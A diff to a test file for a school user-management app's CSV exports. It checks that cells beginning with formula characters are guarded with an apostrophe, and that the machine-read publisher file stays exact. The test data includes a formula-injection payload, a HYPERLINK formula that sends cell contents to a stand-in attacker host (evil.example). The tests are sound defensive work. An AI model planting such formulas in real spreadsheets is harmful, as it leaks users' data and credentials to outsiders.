@@ -166,13 +166,13 @@ describe('POST /users/export/platform (by editor)', () => {
 });
 
 describe('POST /users/export (Tous, Brut, Full)', () => {
-  it('Tous: the grid’s fields, passwords in clear, free texts neutralised against formulas and credentials exact', async () => {
+  it('Tous: the grid’s fields, passwords in clear, every cell guarded against formulas, credentials too', async () => {
     const response = await post('direction', contract.exportUsers, { uai: home, userIds: [luc.id, zoe.id], type: 'tous' });
     expect(response.statusCode).toBe(200);
     expect(response.body.startsWith('\uFEFF')).toBe(true);
     expect(lines(response.body)).toEqual([
       'UAI;Profil;Nom;Prénom;Login;Password;Niveau;Classe;Matière;Mail;N° tablette;Commentaire;Options;Mode admin;Désactivé',
-      `${home};Eleve;"'=HYPERLINK(""x"")";Luc;luc.martin;+plus-pass;5e;5e B;;;;'@SUM(A1);;0;0`,
+      `${home};Eleve;"'=HYPERLINK(""x"")";Luc;luc.martin;'+plus-pass;5e;5e B;;;;'@SUM(A1);;0;0`,
       `${home};Eleve;Dupré;Zoé;zoe.dupre;zoe-1234;6e;6e A;;;;;Latin, Grec;0;0`,
     ]);
   });
@@ -290,6 +290,84 @@ describe('the URL-scheme export', () => {
       'UAI;Login;Nom;Prénom;Lien web;Application;Lien application',
       `${home};zoe.dupre;Dupré;Zoé;https://console.example.fr/?iduser=${zoe.linkToken};Manuels LLS;lls://login?login=zoe.lls&password=lls%3Bsecret`,
     ]);
+  });
+});
+
+describe('no live formula in a file a person opens (issue 31 §4)', () => {
+  const LINK = '=HYPERLINK("http://evil.example/?"&C2,"x")';
+  let eve: BuiltUser;
+  let eva: BuiltUser;
+
+  beforeAll(async () => {
+    const key = t.env.encryptionKey;
+    // Every free and credential column starts a formula.
+    eve = await buildUser(t.db, key, {
+      profile: 'Eleve',
+      uai: home,
+      lastname: LINK,
+      firstname: '+Eve',
+      login: 'eve.formule',
+      password: '=1+1',
+      level: '-6e',
+      className: '@6A',
+      email: '=eve@example.org',
+      tabletNumber: '-42',
+      comment: '+33 6',
+      createdBy: '=creator',
+      updatedBy: '@editor',
+    });
+    eva = await buildUser(t.db, key, {
+      profile: 'Enseignant',
+      uai: home,
+      lastname: '-Eva',
+      firstname: '@Eva',
+      login: 'eva.formule',
+      subject: '=Maths',
+    });
+    await giveOptions(t.db, eve, ['=Latin']);
+    const [lls] = await t.db.select().from(applications).where(eq(applications.platformId, 'LLS2020'));
+    await giveApplication(t.db, eve, lls!, { login: LINK, passwordEncrypted: encryptSecret(key, '@pw'), keys: '-code' });
+    await t.db.insert(teachingAssignments).values({ userId: eva.id, className: '=6A', discipline: '+Maths' });
+  });
+
+  const cellsOf = (body: string) =>
+    Papa.parse<string[]>(body.replace(/^\uFEFF/, ''), { delimiter: ';', skipEmptyLines: true }).data.flat();
+  const spreadsheetExports: [string, ExportRoute, object][] = [
+    ['Tous', contract.exportUsers, { type: 'tous' }],
+    ['Brut', contract.exportUsers, { type: 'brut' }],
+    ['Full', contract.exportUsers, { type: 'full' }],
+    ['teaching', contract.exportTeaching, {}],
+    ['URL', contract.getMajExport, {}],
+  ];
+
+  it.each(spreadsheetExports)(
+    '%s: no cell read back starts a formula; each guarded one keeps its value after the apostrophe',
+    async (_name, route, extra) => {
+      const response = await post('direction', route, { uai: home, userIds: [eve.id, eva.id], ...extra });
+      expect(response.statusCode).toBe(200);
+      const cells = cellsOf(response.body);
+      expect(cells.filter((cell) => contract.FORMULA_START.test(cell))).toEqual([]);
+      expect(
+        cells
+          .filter((cell) => cell.startsWith("'"))
+          .map(contract.removeFormulaGuard)
+          .every((cell) => contract.FORMULA_START.test(cell)),
+      ).toBe(true);
+    },
+  );
+
+  it('guards the credentials of Tous and Full: the user’s password, each application’s login, password and code', async () => {
+    const full = cellsOf((await post('direction', contract.exportUsers, { uai: home, userIds: [eve.id], type: 'full' })).body);
+    expect(full).toEqual(expect.arrayContaining(["'=1+1", `'${LINK}`, "'@pw", "'-code", "'+Eve", "'-6e", "'@6A", "'=Latin"]));
+  });
+
+  it('keeps the values exact in a publisher’s file, which a machine reads', async () => {
+    const response = await post('direction', contract.exportPlatform, { uai: home, userIds: [eve.id], platformId: 'LLS2020' });
+    const cells = Papa.parse<string[]>(response.body.replace(/^\uFEFF/, ''), {
+      delimiter: ';',
+      skipEmptyLines: true,
+    }).data.flat();
+    expect(cells).toEqual(expect.arrayContaining([LINK, '@pw', '+Eve']));
   });
 });
 
